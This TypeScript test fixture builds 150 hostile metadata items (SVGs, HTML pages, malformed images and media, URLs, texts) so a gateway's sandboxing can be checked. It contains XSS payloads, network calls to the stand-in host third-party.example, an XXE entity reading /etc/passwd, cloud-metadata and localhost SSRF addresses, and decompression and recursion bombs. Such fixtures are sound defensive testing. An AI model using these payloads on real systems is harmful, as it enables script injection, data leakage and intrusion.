import { gzipSync } from "node:zlib";
import { GIF_FILE, laughingSvg, pngFile, svgFile } from "../../gateway/src/testing/hostilePictures";
import {
  FLAC_FILE,
  glbFile,
  mp3File,
  mp4File,
  pageFile,
  wavFile,
  WEBM_FILE,
} from "../../gateway/src/testing/itemMedia";

/** Metadata of a hostile item: texts, and URLs of files, which contain the files themselves. */
export type HostileItem = { readonly title: string; readonly metadata: Readonly<Record<string, unknown>> };

/** Third-party host in hostile files: it must not be reached. */
export const THIRD_PARTY = "third-party.example";
/**
 * Function that a test defines in every frame: a hostile script reports through it that it runs, and in which origin.
 */
export const REPORT = "cenoteHostileRan";
/** Reports the origin of the running script: "null" in a sandbox. */
const RUN = `typeof ${REPORT}==="function"&&${REPORT}(self.origin)`;
const OUT = `https://${THIRD_PARTY}`;
/**
 * Navigation target of frames: Chromium preconnects a navigation that the policy blocks, and TLS would count as a
 * request.
 */
const AWAY = `http://${THIRD_PARTY}`;

/** Returns 150 items, each hostile in its own way. */
export function hostileItems(): readonly HostileItem[] {
  const all = [
    ...files("svg", "image/svg+xml", "image", drawings()),
    ...files("svg as animation", "image/svg+xml", "animation_url", drawings().slice(0, 8)),
    ...files("page", "text/html", "animation_url", pages()),
    ...files("page as picture", "image/png", "image", pages().slice(0, 6)),
    ...files("picture", "image/png", "image", pictures()),
    ...files("wrong type", "image/png", "image", otherFiles()),
    ...files("film or sound", "video/mp4", "animation_url", moving()),
    ...addresses().map((address, index) => ({ title: `address ${index}`, metadata: { image: address } })),
    ...texts().map((text, index) => ({
      title: `text ${index}`,
      metadata: { name: text, description: text, attributes: [{ trait_type: text, value: text }] },
    })),
  ];
  return all.slice(0, COUNT);
}

const COUNT = 150;

function files(title: string, type: string, field: string, contents: readonly (Buffer | string)[]): HostileItem[] {
  return contents.map((content, index) => ({
    title: `${title} ${index}`,
    metadata: { [field]: `data:${type};base64,${Buffer.from(content).toString("base64")}` },
  }));
}

function drawings(): readonly Buffer[] {
  const square = '<rect width="100" height="100" fill="teal"/>';
  const events = ["onload", "onclick", "onerror", "onmouseover", "onfocusin", "onbegin"];
  return [
    svgFile(`<script>${RUN}</script>${square}`),
    svgFile(`<script href="${OUT}/1.js"/>${square}`),
    svgFile(`<script><![CDATA[${RUN}]]></script>${square}`),
    svgFile(
      `<foreignObject width="99" height="99"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${OUT}"/></foreignObject>`,
    ),
    svgFile(
      `<foreignObject width="9" height="9"><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script></foreignObject>${square}`,
    ),
    svgFile(`<image href="${OUT}/1.png" width="9" height="9"/>${square}`),
    svgFile(`<image xlink:href="${OUT}/2.png" width="9" height="9"/>${square}`),
    svgFile(`<style>@import url("${OUT}/1.css");</style>${square}`),
    svgFile(`<style>rect { fill: url("${OUT}/2.svg#a") }</style>${square}`),
    svgFile(`<use href="${OUT}/3.svg#a"/>${square}`),
    svgFile(`<a href="javascript:${RUN}">${square}</a>`),
    svgFile(`<animate attributeName="href" values="javascript:${RUN}"/>${square}`),
    svgFile(`<filter id="f"><feImage href="${OUT}/4.png"/></filter><rect width="9" height="9" filter="url(#f)"/>`),
    svgFile(`<image href="data:text/html,<script>${RUN}</script>" width="9" height="9"/>${square}`),
    svgFile(`<image href="file:///etc/passwd" width="9" height="9"/>${square}`),
    ...events.map((name) => svgFile(`<rect width="9" height="9" ${name}="${RUN.replaceAll('"', "&quot;")}"/>`)),
    svgFile(square, `viewBox="0 0 9 9" onload='${RUN}'`),
    svgFile(square, 'width="1e9" height="1e9"'),
    svgFile(square, 'width="0" height="0"'),
    svgFile(square, 'viewBox="NaN NaN -1 -1"'),
    svgFile("<g>".repeat(3000) + "</g>".repeat(3000)),
    svgFile('<g id="a"><use href="#a"/></g><use href="#a"/>'),
    svgFile(
      '<pattern id="p" width="9" height="9"><rect width="9" height="9" fill="url(#p)"/></pattern><rect fill="url(#p)" width="9" height="9"/>',
    ),
    svgFile(
      '<filter id="f"><feGaussianBlur stdDeviation="9999"/></filter><rect width="99" height="99" filter="url(#f)"/>',
    ),
    svgFile(""),
    laughingSvg(),
    Buffer.from(
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
    ),
    Buffer.from(
      `<?xml-stylesheet href="${OUT}/5.css"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">${square}</svg>`,
    ),
    svgFile(square).subarray(0, 90),
  ];
}

function pages(): readonly Buffer[] {
  const scripts = [
    RUN,
    `fetch("${OUT}/fetch");${RUN}`,
    `new XMLHttpRequest().open("GET","${OUT}/xhr");${RUN}`,
    `new WebSocket("wss://${THIRD_PARTY}/socket");${RUN}`,
    `new EventSource("${OUT}/events");${RUN}`,
    `navigator.sendBeacon("${OUT}/beacon","x");${RUN}`,
    `new Image().src="${OUT}/image";${RUN}`,
    `import("${OUT}/module.js").catch(()=>{});${RUN}`,
    `top.location="${OUT}/top";${RUN}`,
    `parent.document.title="taken";${RUN}`,
    `parent.eval(${JSON.stringify(RUN)})`,
    `location="${AWAY}/self"`,
    `location="javascript:${RUN.replaceAll('"', "'")}"`,
    `window.open("${OUT}/open");${RUN}`,
    `alert(1);prompt(2);confirm(3);print();${RUN}`,
    `localStorage.x=1;document.cookie="x=1";indexedDB.open("x");${RUN}`,
    `navigator.serviceWorker.register("/sw.js");${RUN}`,
    `parent.postMessage({cenote:"taken"},"*");for(let i=0;i<2000;i++)parent.postMessage(i,"*");${RUN}`,
    `new Worker(URL.createObjectURL(new Blob(["fetch('${OUT}/worker')"])));${RUN}`,
    `document.documentElement.requestFullscreen();navigator.clipboard.readText();${RUN}`,
    `history.pushState(0,"","/");top.history.back();${RUN}`,
    `const a=document.createElement("a");a.href="${OUT}/a";a.ping="${OUT}/ping";a.target="_top";document.body.append(a);a.click();${RUN}`,
    `const until=Date.now()+1500;while(Date.now()<until);${RUN}`,
    `const f=document.createElement("iframe");f.src="${AWAY}/frame";document.documentElement.append(f);${RUN}`,
    `fetch("/graphql",{method:"POST",body:"{}"});${RUN}`,
    `new RTCPeerConnection({iceServers:[{urls:"stun:${THIRD_PARTY}:3478"}]}).createDataChannel("x");${RUN}`,
  ];
  const markup = [
    `<meta http-equiv="refresh" content="0;url=${AWAY}/refresh">`,
    `<base href="${OUT}/"><script src="1.js"></script><img src="1.png">`,
    `<link rel="stylesheet" href="${OUT}/1.css"><link rel="prefetch" href="${OUT}/prefetch"><link rel="preload" as="image" href="${OUT}/preload">`,
    `<form action="${OUT}/form" method="post"></form><script>document.forms[0].submit()</script>`,
    `<object data="${OUT}/object"></object><embed src="${OUT}/embed"><video src="${OUT}/video"></video><audio src="${OUT}/audio"></audio>`,
    `<iframe srcdoc="<script>${RUN.replaceAll('"', "&quot;")}</script>"></iframe>`,
    `<style>@font-face{font-family:x;src:url(${OUT}/font)}body{font-family:x;background:url(${OUT}/background)}</style>x`,
    "<div>".repeat(2000),
  ];
  return [...scripts.map((script) => pageFile(`<body><script>${script}</script>`)), ...markup.map(pageFile)];
}

function pictures(): readonly Buffer[] {
  const png = pngFile(60, 40);
  const jpeg = Buffer.from(
    "ffd8ffe000104a46494600010100000100010000ffc0000b080010001001011100ffda0008010100003f00",
    "hex",
  );
  const webp = Buffer.from("524946462400000057454250565038580a00000010000000ffff00ffff00", "hex");
  const damaged = Buffer.from(png);
  damaged[60]! ^= 0xff;
  return [
    ...[0.2, 0.5, 0.9].map((share) => png.subarray(0, Math.floor(png.length * share))),
    png.subarray(0, 20),
    damaged,
    pngFile(20_000, 20_000, 0),
    pngFile(16_000, 2_000, 10),
    pngFile(0, 0, 0),
    Buffer.concat([png, Buffer.from(`<script>${RUN}</script>`)]),
    Buffer.concat([GIF_FILE.subarray(0, 6), Buffer.from(`=1;${RUN}//`), GIF_FILE.subarray(6)]),
    Buffer.concat([GIF_FILE, Buffer.from(`<script>${RUN}</script>`)]),
    GIF_FILE.subarray(0, 20),
    Buffer.concat([Buffer.from("GIF89a"), Buffer.from("ffffffff", "hex"), Buffer.alloc(40)]),
    jpeg,
    jpeg.subarray(0, 10),
    webp,
    mp4File("avif"),
    Buffer.from("BM is a bitmap's beginning"),
    Buffer.from("II*\0 is a TIFF's beginning"),
  ];
}

function otherFiles(): readonly (Buffer | string)[] {
  return [
    "%PDF-1.7\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
    Buffer.from("504b0304140000000800", "hex"),
    Buffer.from("4d5a90000300000004000000", "hex"),
    Buffer.from("7f454c4602010100", "hex"),
    Buffer.from("0061736d01000000", "hex"),
    gzipSync(Buffer.alloc(2_000_000)),
    JSON.stringify({ image: `${OUT}/1.png` }),
    `alert(1);${RUN}`,
    `body { background: url(${OUT}/1) }`,
    `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></html>`,
    "plain text",
    "",
    Buffer.alloc(5000),
    Buffer.from([0xff, 0xfe, 0x3c, 0x00, 0x73, 0x00]),
  ];
}

function moving(): readonly Buffer[] {
  const loop = Buffer.from(mp4File());
  loop.writeUInt32BE(0, 24);
  return [
    mp4File(),
    mp4File().subarray(0, 100),
    mp4File("isom", "free"),
    loop,
    Buffer.concat([mp4File(), Buffer.from(`<script>${RUN}</script>`)]),
    WEBM_FILE,
    Buffer.concat([WEBM_FILE, Buffer.alloc(500, 0xff)]),
    Buffer.from(`OggS${RUN}`),
    FLAC_FILE,
    mp3File(),
    Buffer.from(`ID3<script>${RUN}</script>`),
    wavFile(),
    wavFile().subarray(0, 100),
    glbFile(),
    glbFile().subarray(0, 60),
    glbFile(2, { asset: { version: "2.0" }, buffers: [{ uri: `${OUT}/1.bin`, byteLength: 1e9 }] }),
    glbFile(2, { asset: { version: "2.0" }, accessors: [{ count: 4e9, type: "VEC3", componentType: 5126 }] }),
  ];
}

function addresses(): readonly unknown[] {
  return [
    `javascript:${RUN}`,
    `JaVaScRiPt:${RUN}`,
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://third-party.example/1",
    "http://127.0.0.1:8545/",
    "https://169.254.169.254/latest/meta-data",
    "https://[::1]/",
    "//third-party.example/1.png",
    "data:,",
    "data:image/svg+xml;base64,%%%",
    `data:text/html,<script>${RUN}</script>`,
    `https://user:word@${THIRD_PARTY}/1.png`,
    "ipfs://../../etc/passwd",
    `ar://${"a".repeat(43)}/../x`,
    { toString: "image" },
    ["https://third-party.example/1.png"],
    1e308,
    "https://\u0000third-party.example",
    "x".repeat(2001),
  ];
}

function texts(): readonly string[] {
  return [
    `<script>${RUN}</script>`,
    `<img src=x onerror='${RUN}'>`,
    "\u202e\u2066 reversed \u2069".repeat(50),
    "a".repeat(5000),
    "\u0000\u0007\u001b[31m",
    "{{constructor.constructor('alert(1)')()}}",
    "Z\u0334\u0335\u0336".repeat(300),
    `${OUT}/claim`,
  ];
}
